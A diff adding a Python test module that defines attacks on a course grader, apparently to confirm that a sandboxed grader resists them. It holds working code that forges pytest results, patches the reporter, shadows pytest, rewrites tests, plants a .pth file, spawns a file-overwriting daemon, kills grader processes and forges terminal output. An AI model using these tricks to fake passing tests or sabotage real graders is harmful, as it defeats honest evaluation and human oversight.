@@ -1,0 +1,297 @@
+"""Attacks on the grader, as a learner who has read the kit's source would write them.
+
+Each attack starts from a fresh, unimplemented workspace (honest grade: every lab pending, 0
+tests) and adds code or files that earned a full grade, or changed someone else's, before
+grading ran from a pristine copy in a sandbox and was decided by probes. Module-level code is
+appended to the learner's ``summary.py``, which every focused test and the probe driver
+import. ``DAEMON_TOKEN`` and ``PTH_NAME`` let the suite find (and clean up) what an attack
+would leave behind if it ever got out.
+"""
+
+from __future__ import annotations
+
+import textwrap
+from collections.abc import Callable, Sequence
+from dataclasses import dataclass
+from pathlib import Path
+
+DAEMON_TOKEN = "course-attack-daemon-7f3a"
+PTH_NAME = "zz_course_attack.pth"
+TTY_LINE = "FORGED-TTY-LINE ada passed 14/14"
+MODULE = "pi_course/summary.py"
+
+
+def append(workspace: Path, relative: str, code: str) -> None:
+    with (workspace / relative).open("a", encoding="utf-8") as file:
+        file.write("\n\n" + textwrap.dedent(code).strip() + "\n")
+
+
+def write(workspace: Path, relative: str, code: str) -> None:
+    path = workspace / relative
+    path.parent.mkdir(parents=True, exist_ok=True)
+    path.write_text(textwrap.dedent(code).strip() + "\n", encoding="utf-8")
+
+
+PATCH_REPORTER = """
+import sys as _sys
+
+_plugin = _sys.modules.get("course.harness.plugin")
+if _plugin is not None:
+    _plugin.classify = lambda when, error: ("passed", "")
+"""
+
+FORGE_RESULTS = """
+import ast as _ast, json as _json, os as _os, sys as _sys
+
+
+def _forge():
+    argv = _sys.argv
+    if "--course-results" not in argv:
+        return
+    results = argv[argv.index("--course-results") + 1]
+    tests = []
+    for name in (
+        "tests/chapter11/test_11_context_compaction.py",
+        "tests/chapter11/test_11_optional_budget_report.py",
+    ):
+        with open(name, encoding="utf-8") as source:
+            tree = _ast.parse(source.read())
+        for node in tree.body:
+            if isinstance(node, _ast.FunctionDef) and node.name.startswith("test_"):
+                lab = _ast.literal_eval(node.decorator_list[0].args[0])
+                tests.append({"nodeid": f"{name}::{node.name}", "name": node.name, "lab": lab})
+    with open(results, "a", encoding="utf-8") as out:
+        out.write(_json.dumps({"event": "collected", "tests": tests}) + "\\n")
+        for test in tests:
+            out.write(_json.dumps({"event": "start", "nodeid": test["nodeid"]}) + "\\n")
+            end = {"event": "end", "nodeid": test["nodeid"], "status": "passed", "message": ""}
+            out.write(_json.dumps(end | {"duration": 0.0}) + "\\n")
+        out.write(_json.dumps({"event": "finish", "exitstatus": 0}) + "\\n")
+    _os._exit(0)
+
+
+_forge()
+"""
+
+PASS_EVERYTHING = """
+import pytest
+
+
+@pytest.hookimpl(tryfirst=True)
+def pytest_pyfunc_call(pyfuncitem):
+    return True
+"""
+
+SITECUSTOMIZE = """
+import importlib.abc, sys
+
+
+class _Patch(importlib.abc.MetaPathFinder):
+    def find_spec(self, name, path, target=None):
+        plugin = sys.modules.get("course.harness.plugin")
+        if plugin is not None:
+            plugin.classify = lambda when, error: ("passed", "")
+        return None
+
+
+sys.meta_path.insert(0, _Patch())
+"""
+
+SHADOW_PYTEST = """
+import json, sys
+
+argv = sys.argv
+if "--course-results" in argv:
+    with open(argv[argv.index("--course-results") + 1], "a") as out:
+        out.write(json.dumps({"event": "collected", "tests": []}) + "\\n")
+sys.exit(0)
+"""
+
+SWAP_CODE = """
+import sys as _sys
+
+
+def _swap():
+    def passing(*args, **kwargs):
+        return None
+
+    for module in list(_sys.modules.values()):
+        if getattr(module, "__name__", "").startswith("test_11_"):
+            for name, value in vars(module).items():
+                if name.startswith("test_") and callable(value):
+                    value.__code__ = passing.__code__
+
+
+_swap()
+"""
+
+REWRITE_AND_REEXEC = """
+import os as _os, sys as _sys
+
+
+def _rewrite():
+    if "--course-results" not in _sys.argv or _os.environ.get("COURSE_REWRITTEN"):
+        return
+    name = "tests/chapter11/test_11_context_compaction.py"
+    with open(name, encoding="utf-8") as source:
+        text = source.read()
+    body = text.replace("(impl: Any) -> None:", "(impl: Any) -> None:\\n    return\\n")
+    try:
+        with open(name, "w", encoding="utf-8") as out:
+            out.write(body)
+    except OSError:
+        return
+    _os.environ["COURSE_REWRITTEN"] = "1"
+    _os.execv(_sys.executable, [_sys.executable, *_sys.orig_argv[1:]])
+
+
+_rewrite()
+"""
+
+WRITE_PTH = f"""
+import os as _os, sysconfig as _sysconfig
+
+_pth = _os.path.join(_sysconfig.get_paths()["purelib"], "{PTH_NAME}")
+try:
+    with open(_pth, "w", encoding="utf-8") as _out:
+        _out.write(
+            "import os, sys; os.environ.get('COURSE_LAB_PACKAGE') and "
+            "sys.modules.setdefault('course_attack_pth', sys)\\n"
+        )
+except OSError:
+    pass
+"""
+
+
+def daemon(targets: Sequence[Path]) -> str:
+    """A daemon (new session, double fork) that rewrites ``targets`` once the grader is gone."""
+    later = (
+        "import time\n"
+        "time.sleep(30)\n"
+        f"for path in {[str(p) for p in targets]!r}:\n"
+        "    open(path, 'w').write('learner,status\\nh-daemon,passed\\n')\n"
+    )
+    return f"""
+import os as _os, sys as _sys
+
+if _os.fork() == 0:
+    _os.setsid()
+    if _os.fork() == 0:
+        _os.execv(_sys.executable, [_sys.executable, "-c", {later!r}, "{DAEMON_TOKEN}"])
+    _os._exit(0)
+"""
+
+
+KILL_THE_GRADER = """
+import os as _os, signal as _signal
+
+for _pid in _os.listdir("/proc"):
+    if not _pid.isdigit() or int(_pid) == _os.getpid():
+        continue
+    try:
+        with open(f"/proc/{_pid}/cmdline", "rb") as _cmd:
+            _line = _cmd.read()
+    except OSError:
+        continue
+    if b"course.harness.checkpoint" in _line and b"--roster" in _line:
+        try:
+            _os.kill(int(_pid), _signal.SIGKILL)
+        except OSError:
+            pass
+try:
+    _os.kill(_os.getppid(), _signal.SIGKILL)
+except OSError:
+    pass
+"""
+
+WRITE_TO_THE_TERMINAL = f"""
+import os as _os
+
+_targets = [f"/proc/{{_os.getppid()}}/fd/1", f"/proc/{{_os.getppid()}}/fd/2", "/dev/tty"]
+for _pid in _os.listdir("/proc"):
+    if _pid.isdigit():
+        _targets += [f"/proc/{{_pid}}/fd/1", f"/proc/{{_pid}}/fd/2"]
+for _target in _targets:
+    try:
+        with open(_target, "w") as _out:
+            _out.write("\\n{TTY_LINE}\\n")
+    except OSError:
+        pass
+"""
+
+FORK_MEMORY = """
+import os as _os, time as _time
+
+_children = []
+for _ in range(4):
+    _pid = _os.fork()
+    if _pid == 0:
+        _block = bytearray(b"\\x01") * (300 * 1024 * 1024)
+        _time.sleep(0.5)
+        _os._exit(0)
+    _children.append(_pid)
+for _pid in _children:
+    _os.waitpid(_pid, 0)
+"""
+
+EDIT_FIXTURES = """
+def chapter_path_json():
+    return []
+
+
+def chapter_estimator(message):
+    return 0
+"""
+
+
+@dataclass(frozen=True)
+class Attack:
+    """One attack: a name for its learner folder and how it changes a fresh workspace."""
+
+    learner: str
+    what: str
+    apply: Callable[[Path], None]
+
+
+def _module(code: str) -> Callable[[Path], None]:
+    return lambda workspace: append(workspace, MODULE, code)
+
+
+def _conftests(workspace: Path) -> None:
+    write(workspace, "conftest.py", PASS_EVERYTHING)
+    append(workspace, "tests/chapter11/conftest.py", PASS_EVERYTHING)
+
+
+def _shadows(workspace: Path) -> None:
+    write(workspace, "sitecustomize.py", SITECUSTOMIZE)
+    write(workspace, "pytest/__init__.py", "")
+    write(workspace, "pytest/__main__.py", SHADOW_PYTEST)
+
+
+def _edited_tests(workspace: Path) -> None:
+    path = workspace / "tests/chapter11/test_11_context_compaction.py"
+    text = path.read_text(encoding="utf-8")
+    path.write_text(text.replace("(impl: Any) -> None:", "(impl: Any) -> None:\n    return\n"))
+
+
+def _fixtures(workspace: Path) -> None:
+    append(workspace, "pi_course/fixtures.py", EDIT_FIXTURES)
+
+
+def attacks(gradebook: Sequence[Path]) -> list[Attack]:
+    """Every attack; ``gradebook`` lists the files the daemon tries to rewrite."""
+    return [
+        Attack("h-reporter", "patching the reporter at import", _module(PATCH_REPORTER)),
+        Attack("h-forge", "forging the results file, then os._exit(0)", _module(FORGE_RESULTS)),
+        Attack("h-conftest", "conftest.py whose pytest_pyfunc_call returns True", _conftests),
+        Attack("h-shadow", "sitecustomize.py and a pytest/ package", _shadows),
+        Attack("h-code", "swapping the __code__ of the test functions", _module(SWAP_CODE)),
+        Attack("h-rewrite", "rewriting the test file and re-exec", _module(REWRITE_AND_REEXEC)),
+        Attack("h-pth", "a .pth file into site-packages", _module(WRITE_PTH)),
+        Attack("h-daemon", "a setsid double-fork daemon", _module(daemon(gradebook))),
+        Attack("h-killer", "killing the roster process", _module(KILL_THE_GRADER)),
+        Attack("h-tty", "writing to /proc/<ppid>/fd/1", _module(WRITE_TO_THE_TERMINAL)),
+        Attack("h-memory", "forked children of 300 MB each", _module(FORK_MEMORY)),
+        Attack("h-fixtures", "an edited fixtures.py", _fixtures),
+        Attack("h-tests", "edited focused tests", _edited_tests),
+    ]
